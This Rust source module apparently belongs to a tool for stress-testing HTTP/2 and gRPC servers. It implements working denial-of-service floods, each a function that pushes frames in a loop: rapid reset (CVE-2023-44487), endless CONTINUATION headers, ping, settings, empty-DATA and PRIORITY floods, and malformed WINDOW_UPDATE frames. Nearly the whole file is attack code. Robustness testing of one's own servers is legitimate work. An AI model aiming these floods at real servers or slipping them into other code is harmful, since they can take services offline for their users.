//! Frames without end, each of which costs its sender less than the one who has to look at it. What is read of
//! a connection is metered, and HTTP/2 counts what no client sends so often.

use std::io;

use super::STATUS;
use super::foe::Foe;
use super::frames::{
    self, END_HEADERS, INITIAL_WINDOW_SIZE, call_headers, frame, header, kind, window_update,
};

/// Rapid reset (CVE-2023-44487): calls that are taken back as soon as they are made.
pub(super) async fn rapid_reset(foe: &Foe) -> io::Result<()> {
    let (line, mut streams) = (foe.speak(&[]).await?, odd());
    let mut one = move || {
        let stream = streams();
        let taken_back = frame(kind::RST_STREAM, 0, stream, &CANCEL);
        [frames::begin(stream, STATUS), taken_back].concat()
    };
    line.flood(move || many(&mut one)).await
}

/// CONTINUATION (CVE-2024-2653 and its kin): a block of headers that never ends.
pub(super) async fn continuation(foe: &Foe) -> io::Result<()> {
    let mut line = foe.speak(&[]).await?;
    line.send(&frame(kind::HEADERS, 0, 1, &call_headers(STATUS))).await?;
    let more = frame(kind::CONTINUATION, 0, 1, &header("x", "y").repeat(100));
    line.flood(move || more.repeat(AT_ONCE)).await
}

/// Pings, each of which has to be answered (CVE-2019-9512).
pub(super) async fn pings(foe: &Foe) -> io::Result<()> {
    let pings = frame(kind::PING, 0, 0, &[0; 8]).repeat(AT_ONCE);
    foe.speak(&[]).await?.flood(move || pings.clone()).await
}

/// The same, and no answer is ever read.
pub(super) async fn unread_pings(foe: &Foe) -> io::Result<()> {
    let pings = frame(kind::PING, 0, 0, &[0; 8]).repeat(AT_ONCE);
    let mut line = foe.speak(&[]).await?;
    loop {
        line.send(&pings).await?;
    }
}

/// Settings, each of which has to be acknowledged and moves the windows of all streams (CVE-2019-9515).
pub(super) async fn settings(foe: &Foe) -> io::Result<()> {
    let mut line = foe.speak(&[]).await?;
    // Streams whose windows there are to move.
    for stream in (1..32).step_by(2) {
        line.send(&frames::begin(stream, STATUS)).await?;
    }
    let one = [INITIAL_WINDOW_SIZE, INITIAL_WINDOW_SIZE]
        .iter()
        .zip([1, 1 << 20])
        .flat_map(|(id, value)| frames::settings(&[(*id, value)]));
    let both: Vec<u8> = one.collect();
    line.flood(move || both.repeat(AT_ONCE)).await
}

/// Frames of a call that bring nothing (CVE-2019-9518).
pub(super) async fn empty_data(foe: &Foe) -> io::Result<()> {
    let mut line = foe.speak(&[]).await?;
    line.send(&frames::begin(1, REFLECTION)).await?;
    let empty = frame(kind::DATA, 0, 1, &[]).repeat(AT_ONCE);
    line.flood(move || empty.clone()).await
}

/// Leave to send 0 bytes more, which is an error each time: on calls, and at last on the connection.
pub(super) async fn window_of_nothing(foe: &Foe) -> io::Result<()> {
    let (line, mut streams) = (foe.speak(&[]).await?, odd());
    line.flood(move || {
        let stream = streams();
        let of = if stream < 200 { stream } else { 0 };
        [frames::begin(stream, STATUS), window_update(of, 0)].concat()
    })
    .await
}

/// Windows beyond the most that there may be.
pub(super) async fn window_of_too_much(foe: &Foe) -> io::Result<()> {
    let (line, mut streams) = (foe.speak(&[]).await?, odd());
    line.flood(move || {
        let stream = streams();
        let more = window_update(stream, frames::WIDEST_WINDOW).repeat(2);
        [frames::begin(stream, STATUS), more].concat()
    })
    .await
}

/// Priorities of streams that there are not, each depending on the next (CVE-2019-9513).
pub(super) async fn priorities(foe: &Foe) -> io::Result<()> {
    let (line, mut streams) = (foe.speak(&[]).await?, odd());
    let mut one = move || {
        let stream = streams();
        let on = [&(stream + 2).to_be_bytes()[..], &[16]].concat();
        frame(kind::PRIORITY, 0, stream, &on)
    };
    line.flood(move || many(&mut one)).await
}

/// Frames of a kind that nobody knows, which are to be passed over.
pub(super) async fn unknown(foe: &Foe) -> io::Result<()> {
    let unknown = frame(0xee, END_HEADERS, 0, &[0; 32]).repeat(AT_ONCE);
    foe.speak(&[]).await?.flood(move || unknown.clone()).await
}

/// The numbers of a client's streams, in their order.
pub(super) fn odd() -> impl FnMut() -> u32 {
    let mut next = 1;
    move || {
        let stream = next;
        next = (next + 2) & frames::WIDEST_WINDOW;
        stream
    }
}

fn many(one: &mut impl FnMut() -> Vec<u8>) -> Vec<u8> {
    (0..AT_ONCE).flat_map(|_| one()).collect()
}

/// Frames in one write.
const AT_ONCE: usize = 64;
/// Nobody wants it any more.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// A call that goes on for as long as its client has something to ask.
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
